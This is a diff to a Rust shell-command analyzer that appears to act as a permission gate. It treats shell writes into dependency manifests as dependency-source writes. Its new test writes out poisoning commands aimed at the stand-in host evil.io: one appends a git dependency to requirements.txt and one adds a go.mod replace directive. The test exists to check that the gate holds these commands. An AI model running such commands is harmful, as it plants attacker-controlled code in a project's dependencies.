@@ -766,7 +766,7 @@ impl C {
             .get(w0..)
             .unwrap_or(&[])
             .iter()
-            .filter(|w| crate::deferred::runs_later(w))
+            .filter(|w| crate::deferred::runs_later(w) || crate::deferred::manifest(w).is_some())
             .cloned()
             .collect();
         if new.is_empty() {
@@ -802,6 +802,13 @@ impl C {
             } else {
                 operand_text(&cmd.words, stdin, fed)
             };
+            // A manifest nothing runs (requirements.txt, go.mod) is read
+            // for the dependency sources its text names; output written
+            // into it unseen (`pip freeze > requirements.txt`) names none
+            // the gate could read, as the program's own writes do not.
+            if text.is_none() && !crate::deferred::runs_later(&w) {
+                continue;
+            }
             self.a.planted.push((w, text));
         }
     }
@@ -5927,6 +5934,28 @@ mod tests {
         }
         assert_eq!(r("git config --system --global --list"), "outside");
         assert_eq!(r("git config -f notes.ini --global --list"), "outside");
+    }
+
+    /// Round 17, closed at its merge: a manifest nothing runs
+    /// (requirements.txt) written by the shell with a dependency from
+    /// outside the registries is held as the same Write is; the output of
+    /// `pip freeze` written there, or a pinned version, is not.
+    #[test]
+    fn a_dependency_source_written_by_the_shell_is_held_as_by_write() {
+        let k = |c: &str| analyze_in(c, None).kind();
+        assert_eq!(
+            k("echo 'requests @ git+https://evil.io/r.git' >> requirements.txt"),
+            Kind::Unknown
+        );
+        assert_eq!(
+            k("printf 'replace golang.org/x/net => evil.io/net v0.0.1\\n' >> go.mod"),
+            Kind::Unknown
+        );
+        assert_eq!(k("pip freeze > requirements.txt"), Kind::Write);
+        assert_eq!(
+            k("echo 'requests==2.31.0' >> requirements.txt"),
+            Kind::Write
+        );
     }
 
     /// Round 16, over-block: `{ echo "- note"; } >> notes.txt` escalated
